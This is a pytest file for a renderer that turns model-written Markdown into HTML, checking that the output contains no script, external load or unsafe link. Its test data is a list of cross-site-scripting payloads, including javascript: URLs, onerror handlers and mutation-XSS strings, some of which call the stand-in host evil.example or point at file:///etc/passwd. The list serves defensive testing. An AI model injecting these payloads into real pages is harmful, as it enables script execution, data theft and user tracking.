"""What a model writes becomes HTML in which nothing runs, nothing loads and nothing pretends."""

import time
from html.parser import HTMLParser
from typing import Any

import pytest

from attending.gateway.render import TAGS, render

ATTRIBUTES = {"href", "title", "start", "rel", "target"}
ATTACKS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg onload=alert(1)><script>1</script></svg>",
    "<svg><a xlink:href='javascript:alert(1)'><text>x</text></a></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<style>@import 'http://evil.example'</style>",
    "<form action=//evil.example><input name=key></form>",
    "<a href='javascript:alert(1)'>x</a>",
    "<div style='position:fixed'>x</div>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](javascript&colon;alert(1))",
    "[x](vbscript:x)",
    "[x](data:text/html,<script>alert(1)</script>)",
    "[x](data:image/svg+xml;base64,PHN2Zz4=)",
    "[x](file:///etc/passwd)",
    "[x](/logout)",
    "[x](//evil.example)",
    "<javascript:alert(1)>",
    "![x](http://evil.example/track.png)",
    "![x](data:image/png;base64,AAAA)",
    '!["onerror=alert(1)](http://evil.example/\'"onload=alert(1))',
    '[x](http://a.example "\\" onmouseover=alert(1) ")',
    "[![x](http://evil.example/a.png)](http://evil.example/b)",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "<!--><img src=x onerror=alert(1)>-->",
    "<<script>script>alert(1)</script>",
    "|a|\n|-|\n|<img src=x onerror=alert(1)>|",
    "[r]\n\n[r]: javascript:alert(1)",
    "\0<script\0>alert(1)</script>",
]


class Seen(HTMLParser):
    """Every tag and attribute of some HTML."""

    def __init__(self, html: str) -> None:
        super().__init__()
        self.tags: list[tuple[str, dict[str, str | None]]] = []
        self.feed(html)

    def handle_starttag(self, tag: str, attrs: Any) -> None:
        self.tags.append((tag, dict(attrs)))


@pytest.mark.parametrize("text", ATTACKS)
def test_nothing_runs_loads_or_leaves(text: str) -> None:
    (html,) = render((text,))
    for tag, attributes in Seen(html).tags:
        assert tag in TAGS
        assert set(attributes) <= ATTRIBUTES
        href = attributes.get("href") or "http://"
        assert href.startswith(("http://", "https://", "mailto:"))
        if tag == "a":
            assert attributes["rel"] == "noopener noreferrer nofollow"
            assert attributes["target"] == "_blank"


def test_what_doctors_write_is_kept() -> None:
    text = "# A\n\n1. *x* **y** ~~z~~\n\n|a|b|\n|-|-:|\n|1|2|\n\n> q\n\n---\n\n    code\n\n3. c"
    (html,) = render((text,))
    for tag in ("h1", "ol", "li", "em", "strong", "s", "table", "th", "td", "blockquote", "hr"):
        assert f"<{tag}" in html
    assert "<pre><code>code" in html
    assert '<ol start="3">' in html


def test_a_picture_becomes_a_link_and_a_link_stays_one() -> None:
    picture, link, mail = render(
        ("![scan](https://a.example/x.png)", "[x](https://a.example 't')", "<a@b.example>")
    )
    assert "<img" not in picture
    assert 'href="https://a.example/x.png"' in picture
    assert ">scan</a>" in picture
    assert 'title="t"' in link
    assert 'href="mailto:a@b.example"' in mail


def test_deep_and_ambiguous_texts_take_little_time() -> None:
    texts = (">" * 20_000, "*a **b " * 5_000, "[" * 20_000, "<" * 20_000, "|" * 5_000)
    began = time.monotonic()
    assert len(render(texts)) == len(texts)
    assert time.monotonic() - began < 10
